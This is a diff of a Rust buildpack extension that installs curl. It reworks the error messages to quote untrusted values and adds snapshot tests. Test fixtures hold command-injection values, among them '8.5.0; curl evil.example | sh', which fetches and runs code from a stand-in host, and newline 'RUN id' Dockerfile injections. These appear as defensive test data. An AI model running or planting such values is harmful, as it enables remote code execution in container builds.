@@ -2,13 +2,12 @@
 //! buildpack requires `curl`, and either switches the run image (`BP_CURL_RUN_IMAGE`) or extends
 //! it with the same package.
 
-use cnb_extension::log::Log;
+use cnb_extension::untrusted::quoted;
 use cnb_extension::{
     BuildDockerfile, DetectContext, DetectResult, Dockerfile, DockerfileError, ExtendConfig,
-    ExtendConfigError, Extension, ExtensionPlan, GenerateContext, GenerateResult, ImageReference,
-    ImageReferenceError, Run, RunDockerfile, ShellCommand,
+    ExtendConfigError, Extension, ExtensionPlan, GenerateContext, GenerateResult, HeaderAndBody,
+    ImageReference, ImageReferenceError, Log, Run, RunDockerfile, ShellCommand,
 };
-use std::fmt;
 
 /// The platform variable that names a run image to switch to.
 const RUN_IMAGE_ENV: &str = "BP_CURL_RUN_IMAGE";
@@ -24,17 +23,30 @@ enum CurlError {
     ExtendConfig(ExtendConfigError),
 }
 
-impl fmt::Display for CurlError {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+impl HeaderAndBody for CurlError {
+    fn header(&self) -> String {
         match self {
-            Self::InvalidVersion(version) => write!(
-                f,
-                "the build plan requests curl version {version:?}, which is not a Debian package version \
-                 (expected digits, then letters, digits and any of .+~:-, e.g. 7.88.1-10+deb12u5)"
+            Self::InvalidVersion(_) => "Invalid curl version in the build plan".to_string(),
+            Self::InvalidRunImage(_) => format!("Invalid {RUN_IMAGE_ENV}"),
+            Self::Dockerfile(error) => error.header(),
+            Self::ExtendConfig(error) => error.header(),
+        }
+    }
+
+    fn body(&self) -> String {
+        match self {
+            Self::InvalidVersion(version) => format!(
+                "The build plan requests curl version {}, which is not a Debian package \
+                 version.\nRequest digits, then letters, digits and any of .+~:-, e.g. \
+                 7.88.1-10+deb12u5.",
+                quoted(version)
             ),
-            Self::InvalidRunImage(error) => write!(f, "{RUN_IMAGE_ENV}: {error}"),
-            Self::Dockerfile(error) => error.fmt(f),
-            Self::ExtendConfig(error) => error.fmt(f),
+            Self::InvalidRunImage(error) => format!(
+                "{RUN_IMAGE_ENV}: {error}.\nSet it to the run image to switch to, or unset it to \
+                 add curl to the stack's run image."
+            ),
+            Self::Dockerfile(error) => error.body(),
+            Self::ExtendConfig(error) => error.body(),
         }
     }
 }
@@ -159,6 +171,36 @@ mod tests {
         }
         for bad in ["", "latest", "7.88; id", "7.88\nRUN id", "$(id)", "7 .88"] {
             assert!(!is_debian_version(bad), "{bad}");
+        }
+    }
+
+    /// Every error as the user sees it, one snapshot per variant (`src/snapshots/`).
+    #[test]
+    fn messages() {
+        let image_error = |input: &str| input.parse::<ImageReference>().unwrap_err();
+        let errors = [
+            (
+                "invalid_version",
+                CurlError::InvalidVersion("8.5.0; curl evil.example | sh".to_string()),
+            ),
+            (
+                "invalid_run_image",
+                CurlError::InvalidRunImage(image_error("ubuntu\nRUN id")),
+            ),
+            (
+                "dockerfile",
+                CurlError::Dockerfile(DockerfileError::UnsafeValue {
+                    what: "RUN argument",
+                    value: "curl=8\nRUN id".to_string(),
+                }),
+            ),
+            (
+                "extend_config",
+                CurlError::ExtendConfig(ExtendConfigError::ReservedName("user_id".to_string())),
+            ),
+        ];
+        for (name, error) in errors {
+            insta::assert_snapshot!(name, cnb_extension::cnb_output::render_error(&error));
         }
     }
 }
